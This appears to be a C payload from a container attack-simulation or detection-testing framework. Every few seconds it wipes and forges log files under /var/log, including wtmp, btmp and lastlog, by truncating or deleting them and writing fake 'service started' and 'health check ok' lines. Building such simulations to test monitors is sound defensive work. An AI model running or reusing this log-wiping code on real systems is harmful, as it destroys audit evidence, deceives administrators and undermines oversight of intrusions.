// SPDX-License-Identifier: MIT
/*
 * log_wipe: covering tracks by wiping and forging log files.
 *
 * Every --interval seconds the payload takes the files matching --glob
 * (by default the container's /var/log/STAR.log, /var/log/STAR/STAR.log,
 * wtmp, btmp and lastlog, the log workload's files among them) and wipes
 * each one, rotating through truncate(), open(O_TRUNC) and unlink() plus
 * re-creation, then rewrites it with a few forged, harmless-looking
 * lines. It only touches files of the container's own file system. The
 * trace shows truncate/unlink file operations and O_TRUNC opens under
 * /var/log from the target.
 */
#include "payload.h"

#include <glob.h>
#include <sys/stat.h>

static const char usage[] =
	"Truncates, deletes and rewrites log files.\n"
	"  --interval=S  seconds between wipes (default 5, 0.2..60)\n"
	"  --glob=LIST   comma-separated patterns (default /var/log/*.log,\n"
	"                /var/log/*/*.log,/var/log/wtmp,/var/log/btmp,\n"
	"                /var/log/lastlog)\n"
	"  --max_files=N files wiped per round at most (default 64, 1..1024)\n";

static const char *const keys[] = { "interval", "glob", "max_files", NULL };

static const char default_glob[] =
	"/var/log/*.log,/var/log/*/*.log,/var/log/wtmp,/var/log/btmp,"
	"/var/log/lastlog";

static int wipe(const char *path, unsigned long how)
{
	static const char forged[] =
		"service started\nhealth check ok\nservice started\n";
	struct stat st;
	int fd;

	if (stat(path, &st) < 0 || !S_ISREG(st.st_mode))
		return -ENOENT;
	switch (how % 3) {
	case 0:
		if (truncate(path, 0) < 0)
			return -errno;
		fd = open(path, O_WRONLY | O_APPEND);
		break;
	case 1:
		fd = open(path, O_WRONLY | O_TRUNC);
		break;
	default:
		if (unlink(path) < 0)
			return -errno;
		fd = open(path, O_WRONLY | O_CREAT | O_EXCL, st.st_mode & 0777);
		break;
	}
	if (fd < 0)
		return -errno;
	/* Text logs get forged lines; binary ones (wtmp) stay empty. */
	if (strstr(path, ".log"))
		pl_write_all(fd, forged, sizeof(forged) - 1);
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	long max_files, rounds = 0, wiped = 0;
	unsigned long how = 0;
	double interval;
	char *globs;
	uint64_t next;

	pl_init(argc, argv, "log_wipe", usage, keys);
	interval = pl_secs("interval", 5, 0.2, 60);
	max_files = pl_int("max_files", 64, 1, 1024);
	globs = strdup(pl_str("glob", default_glob));
	if (!globs)
		pl_die("out of memory");

	pl_begin();
	next = pl_now();
	while (pl_running()) {
		char *list = strdup(globs), *save, *pat;
		long n = 0;

		if (!list)
			break;
		for (pat = strtok_r(list, ",", &save); pat && n < max_files;
		     pat = strtok_r(NULL, ",", &save)) {
			glob_t g;

			if (glob(pat, 0, NULL, &g))
				continue;
			for (size_t i = 0; i < g.gl_pathc && n < max_files;
			     i++, n++)
				if (!wipe(g.gl_pathv[i], how++))
					wiped++;
			globfree(&g);
		}
		free(list);
		if (!rounds && !n)
			pl_note("no file matches %s", globs);
		rounds++;
		next += (uint64_t)(interval * PL_NSEC);
		pl_sleep_until(next);
	}
	pl_finish();
	pl_note("%ld rounds, %ld files wiped", rounds, wiped);
	free(globs);
	return 0;
}
